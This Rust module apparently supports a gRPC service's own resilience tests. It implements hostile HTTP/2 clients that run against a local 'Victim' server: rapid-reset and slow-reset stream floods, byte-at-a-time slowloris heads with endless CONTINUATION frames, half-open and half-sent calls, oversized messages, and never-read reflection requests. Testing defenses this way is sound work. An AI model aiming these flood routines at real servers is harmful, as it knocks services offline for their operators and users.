//! Clients that mean harm: they speak HTTP/2 by hand, from addresses of their own.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use bytes::Bytes;
use futures_util::future::join_all;
use futures_util::stream::{self, StreamExt as _};
use http::Request;
use http_body::Frame;
use http_body_util::StreamBody;
use hyper_util::client::legacy::Client;
use hyper_util::client::legacy::connect::HttpConnector;
use hyper_util::rt::TokioExecutor;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{Instant, sleep, timeout};
use tonic::Status;
use tonic::body::Body;

use crate::support::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, call, fields, frame, hello, message,
};

const GET: &str = "modelward.v1.ProviderService/GetProvider";
const REFLECTION: &str = "grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/// What clients usually offer.
const WINDOW: u32 = 65_535;

/// Where the server is and what the attacker may call there.
#[derive(Clone)]
pub struct Victim {
    pub address: SocketAddr,
    pub token: String,
}

impl Victim {
    /// A connection from 127.0.`net`.`host`.
    pub async fn connect(&self, net: u8, host: u8) -> io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind((Ipv4Addr::new(127, 0, net, host), 0).into())?;
        socket.connect(self.address).await
    }

    /// Opens streams and resets them at once, on one connection after the other; how many.
    pub async fn reset_flood(&self, until: Instant) -> usize {
        let head = call(GET, &self.token);
        let mut opened = 0;
        while Instant::now() < until {
            let Ok(mut stream) = self.connect(0, 2).await else { continue };
            let mut wanted = stream.write_all(&hello(WINDOW)).await.is_ok();
            let mut id = 1;
            while wanted && Instant::now() < until && id < 1 << 30 {
                let mut burst = Vec::new();
                for _ in 0..100 {
                    burst.extend(frame(HEADERS, END_HEADERS, id, &head));
                    burst.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
                    id += 2;
                }
                wanted = stream.write_all(&burst).await.is_ok();
                opened += 100;
                drain(&mut stream).await;
            }
        }
        opened
    }

    /// Opens streams, lets each begin, then resets it: what the server has begun is for nothing.
    pub async fn slow_reset_flood(&self, until: Instant) -> usize {
        let head = call(GET, &self.token);
        let mut opened = 0;
        while Instant::now() < until {
            let Ok(mut stream) = self.connect(0, 2).await else { continue };
            let _ = stream.write_all(&hello(WINDOW)).await;
            for first in (0..500).map(|round| 1 + round * 80) {
                let ids = (0..40).map(|offset| first + offset * 2);
                let open: Vec<_> = ids.clone().flat_map(|id| frame(HEADERS, END_HEADERS, id, &head)).collect();
                let reset: Vec<_> = ids.flat_map(|id| frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())).collect();
                let sent = stream.write_all(&open).await.is_ok();
                sleep(Duration::from_millis(2)).await;
                if !sent || stream.write_all(&reset).await.is_err() || Instant::now() >= until {
                    break;
                }
                opened += 40;
                drain(&mut stream).await;
            }
        }
        opened
    }

    /// Says hello, or the head of a call, a byte at a time.
    pub async fn trickle_head(&self, whole: bool, until: Instant) {
        let Ok(mut stream) = self.connect(0, 2).await else { return };
        let head = if whole {
            let mut bytes = hello(WINDOW);
            // A head that never ends: no frame may come between these.
            bytes.extend(frame(HEADERS, 0, 1, &fields(&[(":method", "POST")])));
            bytes.extend((0..1000).flat_map(|_| frame(CONTINUATION, 0, 1, b"")));
            bytes
        } else {
            hello(WINDOW)
        };
        for byte in head {
            if stream.write_all(&[byte]).await.is_err() || Instant::now() >= until {
                return;
            }
            sleep(Duration::from_millis(300)).await;
        }
    }

    /// Begins this many calls on one connection, then sends a byte of each now and then; how many bytes were answered.
    pub async fn half_open(&self, calls: u32, until: Instant) -> usize {
        let Ok(mut stream) = self.connect(0, 3).await else { return 0 };
        let head = call(GET, &self.token);
        let ids = || (0..calls).map(|call| 1 + call * 2);
        let _ = stream.write_all(&hello(WINDOW)).await;
        let begun: Vec<_> = ids().flat_map(|id| frame(HEADERS, END_HEADERS, id, &head)).collect();
        let _ = stream.write_all(&begun).await;
        let mut answered = 0;
        while Instant::now() < until {
            answered += drain(&mut stream).await;
            let bytes: Vec<_> = ids().flat_map(|id| frame(DATA, 0, id, b"\0")).collect();
            let _ = timeout(Duration::from_millis(100), stream.write_all(&bytes)).await;
            sleep(Duration::from_millis(200)).await;
        }
        answered
    }

    /// Sends so many messages of 3.5 MiB up to their last bytes, by the rules; how many were refused meanwhile.
    pub async fn half_sent(&self, calls: usize, until: Instant) -> usize {
        const CHUNK: usize = 16 << 10;
        let mut connector = HttpConnector::new();
        connector.set_local_address(Some(Ipv4Addr::new(127, 0, 0, 3).into()));
        let client: Client<_, Body> = Client::builder(TokioExecutor::new()).http2_only(true).build(connector);
        let whole = Bytes::from(message(&vec![0; 3 << 20 | 1 << 19]));
        let refused = (0..calls).map(|_| {
            let whole = whole.slice(..3 << 20);
            let parts = (0..whole.len() / CHUNK).map(move |part| whole.slice(part * CHUNK..(part + 1) * CHUNK));
            let frames = stream::iter(parts.map(|part| Ok::<_, Status>(Frame::data(part)))).chain(stream::pending());
            let request = Request::post(format!("http://{}/{GET}", self.address))
                .header("content-type", "application/grpc")
                .header("te", "trailers")
                .header("authorization", format!("Bearer {}", self.token))
                .body(Body::new(StreamBody::new(frames)));
            let answer = client.request(request.unwrap());
            async move {
                let answer = timeout(until.saturating_duration_since(Instant::now()), answer).await;
                answer.is_ok_and(|answer| answer.is_ok_and(|answer| answer.headers()["grpc-status"] == "8"))
            }
        });
        join_all(refused).await.into_iter().filter(|refused| *refused).count()
    }

    /// Sends messages that are larger than any may be, whatever it is told.
    pub async fn too_large(&self, until: Instant) -> usize {
        let head = call(GET, &self.token);
        let body = message(&vec![0; 5 << 20]);
        let mut sent = 0;
        while Instant::now() < until {
            let Ok(mut stream) = self.connect(0, 4).await else { continue };
            let mut bytes = hello(WINDOW);
            for id in (0..20).map(|call| 1 + call * 2) {
                bytes.extend(frame(HEADERS, END_HEADERS, id, &head));
                body.chunks(16 << 10).take(4).for_each(|part| bytes.extend(frame(DATA, 0, id, part)));
                sent += 1;
            }
            let _ = timeout(Duration::from_secs(1), stream.write_all(&bytes)).await;
            sleep(Duration::from_millis(20)).await;
            drain(&mut stream).await;
        }
        sent
    }

    /// Asks for much on many streams and takes a byte of each answer.
    pub async fn never_read(&self, calls: u32, until: Instant) {
        let Ok(mut stream) = self.connect(0, 5).await else { return };
        // ServerReflectionRequest.file_containing_symbol: a file with all its comments.
        let question = message(b"\x22\x19modelward.v1.ModelService");
        let head = call(REFLECTION, &self.token);
        let _ = stream.write_all(&hello(1)).await;
        for id in (0..calls).map(|call| 1 + call * 2) {
            let bytes = [frame(HEADERS, END_HEADERS, id, &head), frame(DATA, END_STREAM, id, &question)].concat();
            if timeout(Duration::from_secs(1), stream.write_all(&bytes)).await.is_err() {
                break;
            }
        }
        tokio::time::sleep_until(until).await;
    }
}

/// Takes what is there; how much.
pub async fn drain(stream: &mut TcpStream) -> usize {
    let (mut buffer, mut taken) = (vec![0; 64 << 10], 0);
    while let Ok(Ok(read @ 1..)) = timeout(Duration::from_millis(1), stream.read(&mut buffer)).await {
        taken += read;
    }
    taken
}
